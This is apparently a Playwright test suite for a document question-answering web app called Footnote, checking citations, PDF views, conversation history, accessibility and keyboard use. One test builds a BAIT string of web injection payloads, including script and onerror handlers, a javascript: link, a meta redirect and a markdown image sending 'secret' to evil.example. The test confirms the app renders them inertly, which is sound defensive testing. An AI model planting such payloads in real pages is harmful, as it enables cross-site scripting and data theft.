"""The page as a person meets it: a real browser on the served page, over an assistant that says what it is told."""

import json
import re
from contextlib import closing
from dataclasses import replace

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import expect

from evals.case import read_cases
from index.errors import ModelUnavailable, QuestionError
from index.home import DRAFTS
from index.passage import Document, Heading
from index.read import read_file
from index.sync import Unreadable
from rag.answer import NOT_SAID
from rag.assistant import open_assistant
from rag.settings import Settings
from tests.browser import PHONE, serving, visiting
from tests.fake_assistant import FakeAssistant, FakeLibrary, cite, near
from tests.small_library import open_small, write
from tests.small_pdf import pdf

REFUND = "Refunds are paid within 14 days of the return."
DESK = "The support desk is open from nine to five on working days."
FILLER = "\n\n".join(
    f"Section {n}. " + "The works council is heard before anything is decided. " * 6 for n in range(20)
)
HANDBOOK = Document(
    "handbook.md",
    "Employee handbook",
    f"Employee handbook\n\nWelcome to the company.\n\n{FILLER}\n\n{REFUND} {DESK}\n\n{FILLER}",
    headings=(Heading(0, 1, "Employee handbook"),),
)
DECIDED = "The committee met in Geneva and decided nothing."
TOO_LONG = "a question may have 4,000 characters; this one has 5,000"


def report_in(folder) -> Document:
    """Write a PDF of three pages and read it as the index does."""
    said = ("Nothing to report.", DECIDED, "Nothing to report.")
    pages = [f"Part {number}. {words} " + "Filling words. " * 40 for number, words in enumerate(said, start=1)]
    (folder / "report.pdf").write_bytes(pdf(*pages))
    document, _ = read_file(folder / "report.pdf", "report.pdf")
    return replace(document, title="Report", notices=("page 3 of 3 holds no text",))


@pytest.fixture(scope="module")
def assistant(tmp_path_factory):
    folder = tmp_path_factory.mktemp("library")
    report = report_in(folder)
    library = FakeLibrary([HANDBOOK, report], folder, unreadable=[Unreadable("scan.pdf", "it holds no text")])
    replies = {
        "How long?": (f"{REFUND} [1] {DECIDED} [2]", (cite(1, HANDBOOK, REFUND), cite(2, report, DECIDED))),
        "And the desk?": (f"{DESK} [1]", (cite(1, HANDBOOK, DESK),)),
        "All?": (f"{REFUND} [1] {DESK} [2]", (cite(1, HANDBOOK, REFUND), cite(2, HANDBOOK, DESK))),
        "Slow?": ("word " * 400 + "[1]", (cite(1, HANDBOOK, REFUND),)),
        "Too long?": QuestionError(TOO_LONG),
        "No model?": ModelUnavailable("the embedding model cannot be loaded; run `make install` again"),
        "Bug?": ZeroDivisionError("a bug"),
    }
    nearest = [near(HANDBOOK, DESK), near(report, DECIDED)]
    standalone = {"And the desk?": "When is the support desk open?"}
    return FakeAssistant(library, replies, nearest=nearest, standalone=standalone, pause=0.01)


@pytest.fixture
def phone(browser, address):
    with visiting(browser, address, viewport=PHONE, has_touch=True, is_mobile=True) as visit:
        yield visit


def test_the_empty_page_says_what_it_is_and_offers_questions(visit):
    expect(visit.page).to_have_title("Footnote")
    expect(visit.page.locator("h1")).to_have_count(1)
    expect(visit.page.get_by_role("button", name="How long?")).to_be_visible()
    visit.page.get_by_role("button", name="How long?").click()
    expect(visit.page.locator("#chat .bot-row")).to_contain_text(DECIDED)


def test_documents_are_listed_with_what_is_missing(visit):
    documents = visit.page.locator("#documents")
    expect(documents).to_contain_text("2 documents")
    expect(documents).to_contain_text("page 3 of 3 holds no text")
    expect(visit.page.locator("#beside")).to_contain_text("it holds no text")
    documents.get_by_role("link", name="Employee handbook").click()
    expect(visit.page.locator("#source h2")).to_have_text("Employee handbook")


def test_a_citation_opens_its_sentence_in_the_document(visit):
    visit.ask("How long?")
    expect(visit.chip(1)).to_have_attribute("title", "handbook.md")
    visit.chip(1).click()
    mark = visit.page.locator("#source mark")
    expect(mark).to_have_text(REFUND)
    expect(mark).to_be_in_viewport()
    expect(mark).to_be_focused()
    visit.page.keyboard.press("Escape")
    expect(visit.page.locator("#source section")).to_have_count(0)
    expect(visit.chip(1)).to_be_focused()


def test_a_citation_of_a_pdf_opens_the_picture_of_its_page(visit):
    visit.ask("How long?")
    expect(visit.chip(2)).to_have_attribute("title", "report.pdf, page 2")
    visit.chip(2).click()
    expect(visit.page.get_by_role("img", name="Page 2 of report.pdf")).to_be_visible()
    expect(visit.page.locator(".sheet mark")).to_have_count(1)
    visit.page.get_by_role("link", name="Next page").click()
    expect(visit.page.get_by_role("img", name="Page 3 of report.pdf")).to_be_visible()
    visit.page.get_by_role("button", name="Close the source").click()
    expect(visit.page.locator("#source section")).to_have_count(0)


def test_pointing_at_a_citation_shows_its_quote_in_context(visit):
    visit.ask("How long?")
    visit.chip(1).hover()
    card = visit.page.get_by_role("tooltip")
    expect(card.locator("mark")).to_have_text(REFUND)
    expect(card).to_contain_text(DESK)
    expect(card).to_contain_text("Employee handbook")
    visit.page.locator("#brand").hover()
    expect(card).to_have_count(0)
    visit.chip(2).focus()
    expect(card.locator("mark")).to_have_text(DECIDED)
    visit.page.keyboard.press("Escape")
    expect(card).to_have_count(0)


def test_the_panel_goes_on_to_the_next_citation(visit):
    visit.ask("How long?")
    visit.chip(1).click()
    citations = visit.page.get_by_role("navigation", name="Citations")
    expect(citations).to_contain_text("Citation 1 of 2")
    citations.get_by_role("button", name="Next citation").click()
    expect(visit.page.locator("#source h2")).to_have_text("Report")
    expect(citations).to_contain_text("Citation 2 of 2")
    citations.get_by_role("button", name="Previous citation").click()
    expect(visit.page.locator("#source mark")).to_have_text(REFUND)


def test_citations_are_counted_as_the_answer_numbers_them(visit):
    visit.ask("All?")
    visit.chip(1).click()
    expect(visit.page.get_by_role("navigation", name="Citations")).to_contain_text("Citation 1 of 2")
    visit.chip(2).click()
    expect(visit.page.get_by_role("navigation", name="Citations")).to_contain_text("Citation 2 of 2")


def test_the_original_pdf_opens_at_the_page(visit, address):
    visit.ask("How long?")
    visit.chip(2).click()
    link = visit.page.get_by_role("link", name="Open PDF")
    expect(link).to_have_attribute("href", "api/original?document=report.pdf#page=2")
    assert visit.page.request.get(f"{address}/{link.get_attribute('href')}").body().startswith(b"%PDF")


def test_the_sources_are_listed_under_the_answer(visit):
    visit.ask("How long?")
    assert "Stated in 2 documents" in visit.answer
    visit.page.get_by_role("link", name="Report, page 2").click()
    expect(visit.page.locator("#source h2")).to_have_text("Report")


def test_when_the_documents_do_not_say_the_nearest_passages_can_be_opened(visit):
    visit.ask("Who chairs the council?")
    assert NOT_SAID in visit.answer
    assert "Not in the documents: nearest passages" in visit.answer
    visit.page.locator("#chat").get_by_role("link", name="Employee handbook").click()
    expect(visit.page.locator("#source mark")).to_have_text(DESK)


def test_a_follow_up_says_what_was_searched_for_and_carries_the_history(visit, assistant):
    visit.ask("How long?")
    visit.ask("And the desk?")
    assert "Searched for: When is the support desk open?" in visit.answer
    assert "One source" in visit.answer
    assert [turn.content for turn in assistant.asked[-1][1]] == ["How long?", f"{REFUND} [1] {DECIDED} [2]"]


def test_an_empty_question_is_refused_gently(visit):
    visit.page.get_by_role("button", name="Ask", exact=True).click()
    expect(visit.page.get_by_text("Type a question first.")).to_be_visible()
    expect(visit.page.locator("#chat .user-row")).to_have_count(0)


@pytest.mark.parametrize(
    ("question", "said"),
    [
        ("Too long?", "Not answered: A question may have 4,000 characters; this one has 5,000."),
        ("No model?", "Not answered: The embedding model cannot be loaded; run `make install` again."),
    ],
)
def test_a_known_failure_is_one_sentence_in_the_chat(visit, question, said):
    visit.ask(question)
    assert visit.answer.strip() == said
    visit.ask("How long?")
    assert REFUND in visit.answer


def test_an_unforeseen_failure_leaves_the_page_usable(visit):
    visit.ask("Bug?")
    expect(visit.page.locator("#chat .bot-row")).to_contain_text("Something went wrong while answering")
    visit.ask("How long?")
    assert REFUND in visit.answer


def test_a_stopped_answer_keeps_what_was_said_and_frees_the_page(visit):
    visit.page.get_by_label("Question").fill("Slow?")
    visit.page.keyboard.press("Enter")
    expect(visit.page.locator("#chat .bot-row")).to_contain_text("word word")
    visit.page.get_by_role("button", name="Stop").click()
    expect(visit.page.locator("#chat .bot-row")).to_contain_text("Stopped before the answer was complete.")
    expect(visit.page.locator("#chat .bot-row")).to_contain_text("word word")
    visit.ask("How long?")
    assert REFUND in visit.answer


def test_retry_asks_the_same_again(visit, assistant):
    visit.ask("How long?")
    assistant.asked.clear()
    visit.page.get_by_role("button", name="Retry").click()
    for _ in range(100):  # the stream of answers stays open at times, so its end is no sign
        if assistant.asked:
            break
        visit.page.wait_for_timeout(50)
    expect(visit.page.locator("#stop")).to_have_count(0)
    expect(visit.page.locator("#chat .bot-row")).to_contain_text(REFUND)
    assert [asked[:2] for asked in assistant.asked] == [("How long?", ())]


def test_an_edited_question_replaces_what_came_after_it(visit):
    visit.ask("How long?")
    visit.ask("Too long?")
    visit.page.locator("#chat .user-row").first.hover()
    visit.page.get_by_role("button", name="Edit").first.click()
    visit.page.locator("#chat textarea").fill("And the desk?")
    visit.page.get_by_role("button", name="Submit").click()
    expect(visit.page.locator("#chat .bot-row")).to_have_count(1)
    expect(visit.page.locator("#chat .bot-row")).to_contain_text(DESK)


def test_undo_puts_the_question_back_into_the_box(visit):
    visit.ask("How long?")
    visit.page.get_by_role("button", name="Undo").click()
    expect(visit.page.get_by_label("Question")).to_have_value("How long?")
    expect(visit.page.locator("#chat .user-row")).to_have_count(0)


def test_a_new_conversation_forgets_the_old(visit, assistant):
    visit.ask("How long?")
    visit.page.get_by_role("button", name="New conversation").click()
    expect(visit.page.get_by_role("button", name="Select example 1: How long?")).to_be_visible()
    visit.ask("And the desk?")
    assert assistant.asked[-1][1] == ()


def test_a_conversation_is_kept_across_a_reload_and_can_be_forgotten(visit, assistant):
    page, kept = visit.page, visit.page.locator("#conversations")
    visit.ask("How long?")
    expect(kept.get_by_role("button", name="How long?", exact=True)).to_have_attribute("aria-current", "true")
    page.reload()
    expect(page.locator("#chat .bot-row")).to_contain_text(REFUND)
    visit.chip(1).click()
    expect(page.locator("#source mark")).to_have_text(REFUND)
    visit.ask("And the desk?")
    assert next(turn.content for turn in assistant.asked[-1][1]) == "How long?"
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator("#chat .user-row")).to_have_count(0)
    kept.get_by_role("button", name="How long?", exact=True).click()
    expect(page.locator("#chat .user-row")).to_have_count(2)
    page.on("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Forget all conversations").click()
    expect(kept.locator("li")).to_have_count(0)


@pytest.mark.parametrize(
    ("kind", "held"),
    [("Markdown", "## How long?"), ("JSON", '"question": "How long?"'), ("Web page", "<h2>How long?</h2>")],
)
def test_a_conversation_is_saved_as_a_file(visit, kind, held):
    visit.ask("How long?")
    with visit.page.expect_download() as download:
        visit.page.locator("#export").get_by_role("button", name=kind).click()
    saved = download.value.path().read_text(encoding="utf-8")
    assert held in saved
    assert DECIDED in saved


def test_an_opinion_is_written_beside_the_index(visit, assistant):
    visit.ask("How long?")
    visit.page.get_by_role("button", name="Feedback").hover()
    visit.page.get_by_role("button", name="Wrong source").click()
    expect(visit.page.get_by_text("Noted, on this machine only.").first).to_be_visible()
    [line] = (assistant.library.settings.home / "feedback.jsonl").read_text(encoding="utf-8").splitlines()
    assert json.loads(line)["opinion"] == "Wrong source"


def test_a_thumb_down_is_one_click_to_a_draft_of_an_eval_case(visit, assistant):
    drafts = assistant.library.settings.home / DRAFTS
    visit.ask("And the desk?")
    visit.page.get_by_role("button", name="Dislike").click()
    expect(visit.page.get_by_text(f"It is a draft of an eval case now, in {drafts}").first).to_be_visible()
    *others, case = read_cases(drafts)
    assert (case.question, case.tags) == ("And the desk?", ("draft", "wrong-answer"))
    with visit.page.expect_response("**/queue/join*"):
        visit.page.get_by_role("button", name="Disliked").click()
    assert len(read_cases(drafts)) == len(others) + 1


def test_two_people_do_not_see_each_other(browser, address, visit):
    visit.ask("How long?")
    with visiting(browser, address) as other:
        expect(other.page.locator("#chat .user-row")).to_have_count(0)


def test_an_answer_is_copied_with_its_sources(browser, address):
    with visiting(browser, address, permissions=["clipboard-read", "clipboard-write"]) as visit:
        visit.ask("How long?")
        visit.page.locator("#chat").get_by_role("button", name="Copy message").last.click()
        copied = visit.page.evaluate("navigator.clipboard.readText()")
        assert copied.startswith(f"{REFUND.replace('14', '**14**')} [1]")
        assert re.search(r'^\[2\]: #cite-\S+ "report.pdf, page 2"$', copied, re.MULTILINE)
        visit.chip(2).click()
        visit.page.get_by_role("button", name="Copy quote").click()
        expect(visit.page.get_by_role("button", name="Copied", exact=True)).to_be_visible()
        assert visit.page.evaluate("navigator.clipboard.readText()") == f"“{DECIDED}” — Report (report.pdf, page 2)"


def test_a_phone_shows_one_thing_at_a_time_and_never_scrolls_sideways(phone):
    page = phone.page
    wide = "document.documentElement.scrollWidth > innerWidth"
    expect(page.locator("#side")).not_to_be_visible()
    phone.ask("How long?")
    assert page.evaluate(wide) is False
    phone.chip(1).tap()
    expect(page.locator("#source mark")).to_be_in_viewport()
    assert page.locator("#source").bounding_box()["y"] > 100
    assert page.evaluate(wide) is False
    page.get_by_role("button", name="Close the source").tap()
    page.get_by_role("button", name="Documents").tap()
    expect(page.locator("#documents")).to_contain_text("Employee handbook")
    assert page.evaluate(wide) is False
    page.get_by_role("link", name="Employee handbook handbook.md").tap()
    expect(page.locator("#side")).not_to_be_visible()
    expect(page.locator("#source h2")).to_have_text("Employee handbook")


@pytest.mark.parametrize(("scheme", "paper"), [("light", "rgb(253, 252, 250)"), ("dark", "rgb(23, 25, 28)")])
def test_the_page_follows_the_system_in_light_and_dark(browser, address, scheme, paper):
    with visiting(browser, address, color_scheme=scheme) as visit:
        expect(visit.page.locator("body")).to_have_css("background-color", paper)


def test_an_empty_library_explains_itself(browser, tmp_path):
    with serving(FakeAssistant(FakeLibrary([], tmp_path), {})) as address, visiting(browser, address) as visit:
        expect(visit.page.locator("#chat")).to_contain_text("There is nothing to ask yet")
        expect(visit.page.locator("#chat")).to_contain_text(tmp_path.name)


def test_documents_are_added_asked_one_by_one_and_removed(browser, tmp_path):
    (tmp_path / "first.md").write_text("# First\n\nRefunds take 14 days in Lyon.", encoding="utf-8")
    with closing(open_assistant(Settings.load(library=tmp_path))) as assistant:
        assistant.library.sync()
        with serving(assistant) as address, visiting(browser, address) as visit:
            page, documents = visit.page, visit.page.locator("#documents")
            files = [("second.md", b"# Second\n\nRefunds take 30 days in Metz."), ("bad.exe", b"MZ")]
            payload = [{"name": name, "mimeType": "text/plain", "buffer": content} for name, content in files]
            page.locator("#files").set_input_files(payload)
            expect(page.locator("#progress .failed")).to_contain_text("bad.exe: Footnote reads", timeout=30_000)
            expect(page.locator("#progress .done")).to_have_text("1 of 2 added")
            expect(documents).to_contain_text("2 documents")
            page.get_by_label("Ask First").uncheck()
            expect(page.locator("#scope")).to_contain_text("Asking 1 of 2: Second")
            visit.ask("How long do refunds take?")
            assert "30 days" in visit.answer
            assert "14 days" not in visit.answer
            page.get_by_role("button", name="Ask all").click()
            expect(page.locator("#scope")).not_to_contain_text("Asking")
            menu_of(page, "Second").get_by_role("button", name="Delete").click()
            expect(documents).to_contain_text("1 document")
            page.locator("#chat p a[href*='#cite-']").first.click()
            expect(page.locator("#source")).to_contain_text("no longer in the library")


def test_a_document_is_renamed_deleted_and_put_back(browser, tmp_path):
    """What was deleted can be put back after a reload too."""
    write(tmp_path / "library", first="Refunds take 14 days.", second="Refunds take 30 days.")
    with closing(open_small(tmp_path / "library")) as library:
        library.sync()
        with serving(FakeAssistant(library, {})) as address, visiting(browser, address) as visit:
            page, documents = visit.page, visit.page.locator("#documents")
            page.once("dialog", lambda dialog: dialog.accept("third"))
            menu_of(page, "second").get_by_role("button", name="Rename").click()
            expect(documents.get_by_role("link", name="third")).to_be_focused()
            menu_of(page, "third").get_by_role("button", name="Delete").click()
            expect(page.get_by_role("button", name="Undo")).to_be_focused()
            expect(documents).to_contain_text("1 document")
            assert not (tmp_path / "library" / "third.txt").exists()
            page.reload()
            page.get_by_role("button", name="Undo").click()
            expect(documents.get_by_role("link", name="third")).to_be_focused()
            assert (tmp_path / "library" / "third.txt").exists()
            menu_of(page, "third").get_by_role("button", name="Delete").click()
            page.get_by_role("button", name="Delete for good").click()
            expect(page.locator("#progress")).to_have_text("Deleted for good")
            expect(page.locator("#beside")).not_to_contain_text("third")


def menu_of(page, title: str):
    """Open the menu of a document."""
    page.locator("#documents li").filter(has_text=title).locator("summary").click()
    return page.locator("details.more[open]")


BAIT = (
    '<img src=x onerror="window.PWNED=1"> ${window.PWNED=2} {{value}} <script>window.PWNED=3</script> '
    "![x](http://evil.example/?q=secret) [x](javascript:window.PWNED=4) "
    "<form action=http://evil.example><input></form> "
    '<div style="position:fixed;inset:0;background:red">overlay</div> http://evil.example www.evil.example '
    "<meta http-equiv=refresh content=0;url=http://evil.example> \u202egnp.exe `code` **bold** # h $$x$$ C:\\users"
)


def test_a_hostile_document_is_shown_as_text_and_runs_nothing(browser, tmp_path):
    name = BAIT.replace("/", "∕") + ".txt"
    document = Document(name, BAIT, f"{BAIT}\n\n{BAIT} It is so.", headings=(Heading(0, 1, BAIT),), notices=(BAIT,))
    library = FakeLibrary([document], tmp_path, unreadable=[Unreadable(BAIT, BAIT)])
    cited = (f"{BAIT} It is so. [1]", (cite(1, document, f"{BAIT} It is so."),))
    assistant = FakeAssistant(library, {BAIT: cited}, nearest=[near(document, BAIT)], standalone={"Why?": BAIT})
    with serving(assistant) as address, visiting(browser, address) as visit:
        page = visit.page
        page.locator("#chat .example").first.click()
        expect(page.locator("#chat .bot-row p a[href*='#cite-']")).to_have_count(1)
        expect(page.locator("#stop")).to_have_count(0)
        visit.ask("Why?")
        page.locator("#chat .bot-row").first.locator("p a[href*='#cite-']").last.click()
        expect(page.locator("#source mark")).to_contain_text("<img src=x onerror=")
        page.wait_for_timeout(300)
        assert page.evaluate("window.PWNED") is None
        assert (
            page.locator(
                "#app :is(form, script, iframe, meta, img,"
                " input:not(.pick, .find-words, #files, #find, #recall, #keeping))"
            ).count()
            == 0
        )
        assert page.locator("#app a:not([href^='#cite-'], [href='#why'], [href='#search'])").count() == 0
        assert page.locator("#app h1").count() == 1
        assert page.url.startswith(address)
        assert "\u202e" not in page.locator("#app").inner_text()


@pytest.mark.parametrize(
    "options",
    [{"color_scheme": "light"}, {"color_scheme": "dark"}, {"viewport": PHONE}],
    ids=["light", "dark", "phone"],
)
def test_axe_finds_nothing_to_object_to(browser, address, options):
    with visiting(browser, address, bypass_csp=True, **options) as visit:
        found = axe_of(visit)
        visit.ask("How long?")
        visit.ask("Who chairs the council?")
        found += axe_of(visit)
        visit.page.locator("#chat a[href*='#cite-']").first.click()
        visit.page.locator("#hit").wait_for()
        found += axe_of(visit)
        assert "\n".join(found) == ""


def axe_of(visit) -> list[str]:
    """Return what axe objects to, one line for each element."""
    violations = Axe().run(visit.page).response["violations"]
    return [f"{v['id']}: {node['html'][:160]}" for v in violations for node in v["nodes"]]


def test_a_source_that_arrives_after_the_panel_was_closed_does_not_open_it_again(visit):
    page = visit.page
    visit.ask("How long?")
    visit.chip(1).click()
    page.locator("#hit").wait_for()
    held = []
    page.route("**/gradio_api/run/predict", lambda route: route.continue_() if held else held.append(route))
    with page.expect_request("**/gradio_api/run/predict"):
        page.locator(".cite-after").click()
    page.keyboard.press("Escape")
    expect(page.locator("#source section")).to_have_count(0)
    with page.expect_response(lambda answer: answer.request == held[0].request):
        held[0].continue_()
    page.wait_for_timeout(300)
    expect(page.locator("#source section")).to_have_count(0)


def test_everything_can_be_done_with_the_keyboard(visit):
    page, press = visit.page, visit.page.keyboard.press
    expect(page.get_by_label("Question")).to_be_focused()
    page.keyboard.type("How long?")
    press("Enter")
    expect(page.locator("#stop")).to_have_count(0)
    expect(visit.chip(2)).to_be_visible()
    expect(page.get_by_label("Question")).to_be_focused()
    tab_to(page, "#chat a[href*='#cite-']", back=True)
    press("Enter")
    expect(page.locator("#hit")).to_be_focused()
    now = page.locator(".cites span").inner_text()
    tab_to(page, ".cite-after", back=True)
    press("Enter")
    expect(page.locator(".cites span")).not_to_have_text(now)
    press("Escape")
    expect(page.locator("#source section")).to_have_count(0)
    tab_to(page, "#documents .pick", back=True)
    press("Space")
    expect(page.locator("#scope")).to_contain_text("Asking 1 of 2")
    tab_to(page, "#scope .ask-all")
    press("Enter")
    expect(page.locator("#scope")).not_to_contain_text("Asking")
    look_into_a_menu(page)
    tab_to(page, "#new", back=True)
    press("Enter")
    expect(page.locator("#chat .user-row")).to_have_count(0)


def look_into_a_menu(page) -> None:
    """Open the menu of a document with the keyboard, and leave it."""
    tab_to(page, "#documents summary", back=True)
    page.keyboard.press("Enter")
    tab_to(page, "#documents .rename")
    page.keyboard.press("Escape")
    expect(page.locator("#documents summary:focus")).to_have_count(1)
    expect(page.locator("details[open]")).to_have_count(0)


def tab_to(page, selector: str, *, back: bool = False) -> None:
    """Press Tab until an element that the selector names has the focus."""
    for _ in range(60):
        page.keyboard.press("Shift+Tab" if back else "Tab")
        if page.evaluate("selector => document.activeElement.matches(selector)", selector):
            return
    pytest.fail(f"Tab never reaches {selector}")
